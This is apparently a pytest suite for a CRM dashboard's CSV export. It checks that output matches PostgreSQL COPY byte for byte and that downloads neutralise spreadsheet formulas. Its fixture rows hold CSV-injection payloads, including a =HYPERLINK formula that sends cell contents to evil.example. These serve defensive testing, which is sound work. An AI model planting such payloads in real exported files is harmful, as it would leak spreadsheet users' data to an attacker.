"""CSV: one format on every path, and downloads that a spreadsheet cannot run.

Every CSV the server writes equals, byte for byte, what
COPY (the same query) TO STDOUT WITH (FORMAT csv, HEADER) writes, whether a
view or the model export, with or without ?limit= and ?offset=.  Downloads
(export_rows as CSV, which the web UI uses) also neutralise cells a
spreadsheet would run as formulas, as OWASP recommends: a leading ' before
=, +, -, @, tab or carriage return in every non-numeric column, unless
crm_dashboard.csv_neutralize_formulas is off.  CSV for machines (views and
other functions) is never changed.
"""
import io
import time

import pytest

CSV = {"Accept": "text/csv"}

TABLE_SQL = r'''
DROP TABLE IF EXISTS ingestion.hubspot_tricky CASCADE;
CREATE TABLE ingestion.hubspot_tricky (
    id bigint PRIMARY KEY,
    label text,
    "a,b" text,
    "say ""hi""" varchar(40),
    amount numeric,
    delta integer,
    ratio double precision,
    flag boolean,
    at timestamptz,
    day date,
    doc json,
    docb jsonb,
    tags text[],
    nums integer[],
    rank text
);
INSERT INTO ingestion.hubspot_tricky VALUES
 (1, 'plain', 'x', 'y', 1.50, 1, 0.25, true, '2025-01-02 03:04:05.678+00', '2025-01-02',
     '{"a": 1, "b": "two, three"}', '{"k": "v \"quoted\""}', '{one,"two, three","say \"hi\"",NULL}', '{1,2,NULL}', 'b'),
 (2, 'has, comma', 'has "quote"', 'line one
line two', -7.25, -3, -0.5, false, '1999-12-31 23:59:59+00', '1999-12-31',
     '[1, "x"]', '[]', '{}', '{}', NULL),
 (3, NULL, '', ' leading', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 'a'),
 (4, 'trailing ', '  both  ', E'carriage\rreturn', 0, 0, 1e300, true, '2025-06-30 12:00:00-07', '2025-06-30',
     '"a string"', '"a string"', '{""}', '{-1}', 'b'),
 (5, E'crlf\r\nend', '\.', 'ünïcödé 🙂', 100, 2147483647, -1e-300, false, '2000-02-29 00:00:00+00', '2000-02-29',
     'null', 'null', '{NULL}', NULL, NULL),
 (6, '=1+2', '+SUM(A1:A2)', '-2+3', -5, -5, -5, true, '2025-01-01 00:00:00+00', '2025-01-01',
     '-5', '-5', '{=cmd,"@x"}', '{-5}', 'c'),
 (7, '@SUM(1)', E'\tTAB', E'\rCR first', -0.001, -1, -1, false, '2025-01-01 00:00:00+00', '2025-01-01',
     '"=x"', '{"=": "@"}', '{"-1"}', NULL, 'a'),
 (8, E'=HYPERLINK("http://evil.example/?"&A1,"click")', 'a=b', 'x-y', 3, 3, 3, NULL, NULL, NULL,
     NULL, NULL, NULL, NULL, NULL);
ANALYZE ingestion.hubspot_tricky;
CREATE OR REPLACE VIEW crm_api.tricky AS SELECT * FROM ingestion.hubspot_tricky;
GRANT SELECT ON crm_api.tricky TO crm_dashboard_viewer;
'''

COLUMNS = ["id", "label", "a,b", 'say "hi"', "amount", "delta", "ratio", "flag", "at", "day",
           "doc", "docb", "tags", "nums", "rank"]
NUMERIC = {"id", "amount", "delta", "ratio"}
FORMULA_START = "^[-=+@\t\r]"


@pytest.fixture(scope="module")
def tricky(cluster):
    cluster.sql(TABLE_SQL)
    yield
    cluster.sql("DROP VIEW crm_api.tricky; DROP TABLE ingestion.hubspot_tricky")


def settle(check, want, streak=20, timeout=20):
    """Call check() until it returns want streak times in a row (every HTTP
    worker has reloaded: connections are spread over them)."""
    deadline = time.time() + timeout
    run = 0
    last = None
    while time.time() < deadline:
        last = check()
        run = run + 1 if last == want else 0
        if run >= streak:
            return
        time.sleep(0.02)
    raise AssertionError(f"never settled on {want!r} (last {last!r})")


def quote_ident(name):
    return '"' + name.replace('"', '""') + '"'


def copy_csv(cluster, query):
    """What COPY (query) TO STDOUT WITH (FORMAT csv, HEADER) writes."""
    conn = cluster.connect()
    try:
        out = io.BytesIO()
        with conn.cursor() as cur:
            cur.copy_expert(f"COPY ({query}) TO STDOUT WITH (FORMAT csv, HEADER)", out)
        return out.getvalue()
    finally:
        conn.close()


def defused_select():
    """The table's columns with formulas neutralised in SQL (numeric and boolean
    columns as they are), for the expected bytes of a download."""
    cols = []
    for name in COLUMNS:
        col = "t." + quote_ident(name)
        if name in NUMERIC or name == "flag":
            cols.append(col)
        else:
            cols.append(f"CASE WHEN {col}::text ~ E'{FORMULA_START}' THEN '''' || {col}::text "
                        f"ELSE {col}::text END AS {quote_ident(name)}")
    return "SELECT " + ", ".join(cols) + " FROM ingestion.hubspot_tricky t"


def export(api, args=None, query=""):
    body = dict({"crm": "hubspot", "model": "tricky"}, **(args or {}))
    r = api.post("/api/rpc/export_rows" + query, body, user="vera", headers=CSV)
    assert r.status == 200, r
    assert r.header("Content-Type") == "text/csv; charset=utf-8"
    return r.body


def set_neutralize(cluster, api, value):
    cluster.sql(f"ALTER SYSTEM SET crm_dashboard.csv_neutralize_formulas = {value}")
    cluster.sql("SELECT pg_reload_conf()")
    marker = b"'=1+2" if value == "on" else b"\n6,=1+2,"
    settle(lambda: marker in export(api), True)


@pytest.fixture
def formulas_raw(cluster, api, tricky):
    """Downloads with the switch turned off, for the length of one test."""
    set_neutralize(cluster, api, "off")
    yield
    cluster.sql("ALTER SYSTEM RESET crm_dashboard.csv_neutralize_formulas")
    cluster.sql("SELECT pg_reload_conf()")
    settle(lambda: b"'=1+2" in export(api), True)


# -- COPY's format, on every path ---------------------------------------------

def test_view_csv_is_copy_csv(api, cluster, tricky):
    r = api.get("/api/tricky?order=id", user="vera", headers=CSV)
    assert r.status == 200, r
    assert r.body == copy_csv(cluster, "SELECT * FROM crm_api.tricky ORDER BY id")


def test_view_csv_of_one_column_quotes_a_lone_backslash_dot(api, cluster, tricky):
    r = api.get("/api/tricky?select=label&order=id&id=in.(3,5)", user="vera", headers=CSV)
    assert r.body == copy_csv(cluster, "SELECT label FROM crm_api.tricky WHERE id IN (3, 5) ORDER BY id")
    cluster.sql("UPDATE ingestion.hubspot_tricky SET rank = '\\.' WHERE id = 8")
    try:
        r = api.get("/api/tricky?select=rank&order=id", user="vera", headers=CSV)
        expected = copy_csv(cluster, "SELECT rank FROM crm_api.tricky ORDER BY id")
        assert b'\n"\\."\n' in expected and r.body == expected
    finally:
        cluster.sql("UPDATE ingestion.hubspot_tricky SET rank = NULL WHERE id = 8")


def test_view_csv_keeps_formulas_raw(api, tricky):
    r = api.get("/api/tricky?order=id", user="vera", headers=CSV)
    assert b"\n6,=1+2,+SUM(A1:A2),-2+3," in r.body
    assert b"'=" not in r.body


def test_function_csv_keeps_formulas_raw(api, cluster, tricky):
    """CSV of other functions is for machines: exactly COPY's."""
    cluster.sql("""
        CREATE OR REPLACE FUNCTION crm_api.tricky_labels() RETURNS SETOF text LANGUAGE sql STABLE AS
            $$ SELECT label FROM ingestion.hubspot_tricky ORDER BY id $$;
        GRANT EXECUTE ON FUNCTION crm_api.tricky_labels() TO crm_dashboard_viewer;
        ALTER FUNCTION crm_api.tricky_labels() SECURITY DEFINER;
    """)
    try:
        r = api.post("/api/rpc/tricky_labels", {}, user="vera", headers=CSV)
        assert r.status == 200, r
        assert r.body == copy_csv(cluster, "SELECT * FROM crm_api.tricky_labels()")
    finally:
        cluster.sql("DROP FUNCTION crm_api.tricky_labels()")


def test_export_without_formulas_is_copy_csv(api, cluster, tricky):
    """Rows without formula cells (1 to 5) download exactly as COPY writes them."""
    got = export(api, {"search": None}, query="?limit=5")
    assert got == copy_csv(cluster, "SELECT * FROM ingestion.hubspot_tricky ORDER BY id LIMIT 5")


def test_export_with_the_switch_off_is_copy_csv(api, cluster, formulas_raw):
    assert export(api) == copy_csv(cluster, "SELECT * FROM ingestion.hubspot_tricky ORDER BY id")


def test_export_neutralises_formulas(api, cluster, tricky):
    got = export(api)
    assert got == copy_csv(cluster, defused_select() + " ORDER BY id")
    assert b"\n6,'=1+2,'+SUM(A1:A2),'-2+3,-5,-5,-5,t," in got      # numbers stay numbers
    assert b"\n7,'@SUM(1),'\tTAB,\"'\rCR first\",-0.001,-1,-1,f," in got
    assert b"'-5,'-5,\"{=cmd,@x}\",{-5},c\n" in got               # json is text; arrays start with {
    assert b"\n8,\"'=HYPERLINK(" in got


@pytest.mark.parametrize("query,sql_tail", [
    ("?limit=3", "ORDER BY id LIMIT 3"),
    ("?limit=3&offset=2", "ORDER BY id LIMIT 3 OFFSET 2"),
    ("?offset=6", "ORDER BY id OFFSET 6"),
    ("?limit=0", "ORDER BY id LIMIT 0"),
    ("?offset=100", "ORDER BY id OFFSET 100"),
])
def test_export_has_the_same_format_with_limit_and_offset(api, cluster, tricky, query, sql_tail):
    assert export(api, query=query) == copy_csv(cluster, defused_select() + " " + sql_tail)


def test_export_with_search_and_sort_is_copy_csv(api, cluster, tricky):
    got = export(api, {"search": "a", "sort": "rank", "descending": True})
    expected = copy_csv(cluster, defused_select() +
                        " WHERE t.label ILIKE '%a%' OR t.\"a,b\" ILIKE '%a%' OR t.\"say \"\"hi\"\"\" ILIKE '%a%'"
                        " OR t.rank ILIKE '%a%' ORDER BY t.rank DESC NULLS LAST, t.id DESC")
    assert got == expected


# -- export_cursor: the typed interface --------------------------------------

def cursor_ids(cluster, args, user="sec_viewer"):
    conn = cluster.connect(user=user, autocommit=False)
    try:
        with conn.cursor() as cur:
            cur.execute("SELECT crm_api.export_cursor('hubspot', 'contact', %s, %s, %s)", args)
            name = cur.fetchone()[0]
            cur.execute(f'FETCH ALL FROM "{name}"')
            cols = [d[0] for d in cur.description]
            ids = [row[0] for row in cur.fetchall()]
        conn.rollback()
        return cols, ids
    finally:
        conn.close()


def page_ids(cluster, args):
    search, sort, descending = args
    ids, after = [], None
    while True:
        page = cluster.sql("SELECT crm_api.model_rows('hubspot', 'contact', %s, 7, %s, %s, %s)",
                           (after, search, sort, descending))[0][0]
        ids += [row["id"] for row in page["rows"]]
        after = page["next"]
        if after is None:
            return ids


@pytest.fixture(scope="module")
def nullable_sort(cluster):
    """Ties and NULLs in the sort column: the order must still be model_rows'."""
    cluster.sql("UPDATE ingestion.hubspot_contact SET note = CASE WHEN id % 4 = 0 THEN NULL "
                "ELSE 'n' || (id % 3) END")
    yield
    cluster.sql("UPDATE ingestion.hubspot_contact SET note = 'note ' || id")


@pytest.mark.parametrize("args", [
    (None, None, False), (None, None, True), (None, "note", False), (None, "note", True),
    ("n1", "note", True), ("c1", "email", False), (None, "updated_at", True),
])
def test_export_cursor_has_the_order_of_model_rows(cluster, nullable_sort, args):
    cols, ids = cursor_ids(cluster, args)
    assert cols == ["id", "email", "note", "updated_at"]
    assert ids == page_ids(cluster, args) and ids


def test_export_cursor_reads_for_a_viewer_without_table_rights(cluster):
    with pytest.raises(Exception, match="permission denied"):
        cluster.sql("SELECT count(*) FROM ingestion.hubspot_contact", user="sec_viewer")
    assert len(cursor_ids(cluster, (None, None, False))[1]) == 100


def test_export_cursor_refuses_null_names(cluster):
    with pytest.raises(Exception, match="crm must not be null"):
        cluster.sql("SELECT crm_api.export_cursor(NULL, 'contact')")
    with pytest.raises(Exception, match="model must not be null"):
        cluster.sql("SELECT crm_api.export_cursor('hubspot', NULL)")


def test_export_cursor_is_documented_and_granted(cluster):
    rows = cluster.sql("""
        SELECT obj_description(p.oid, 'pg_proc') IS NOT NULL, p.prosecdef, p.proconfig,
               has_function_privilege('crm_dashboard_viewer', p.oid, 'EXECUTE'),
               has_function_privilege('public', p.oid, 'EXECUTE')
          FROM pg_proc p WHERE p.oid = 'crm_api.export_cursor(text, text, text, text, boolean, jsonb)'::regprocedure""")
    assert rows == [(True, True, ["search_path=pg_catalog, pg_temp"], True, False)]


def test_the_switch_is_a_documented_reloadable_setting(cluster):
    rows = cluster.sql("SELECT setting, context, vartype, short_desc <> '' FROM pg_settings "
                       "WHERE name = 'crm_dashboard.csv_neutralize_formulas'")
    assert rows == [("on", "sighup", "bool", True)]
